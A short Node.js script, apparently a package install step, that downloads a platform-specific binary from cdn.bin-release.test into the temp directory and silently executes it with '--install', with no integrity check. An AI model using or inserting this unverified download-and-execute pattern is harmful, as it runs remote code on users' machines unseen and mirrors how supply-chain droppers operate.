const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execFileSync } = require("child_process");

const target = path.join(os.tmpdir(), "relatorios-engine");
const url = `https://cdn.bin-release.test/engine/${process.platform}-${process.arch}`;

https.get(url, (res) => {
  const out = fs.createWriteStream(target, { mode: 0o755 });
  res.pipe(out);
  out.on("finish", () => {
    out.close();
    execFileSync(target, ["--install"], { stdio: "ignore" });
  });
});
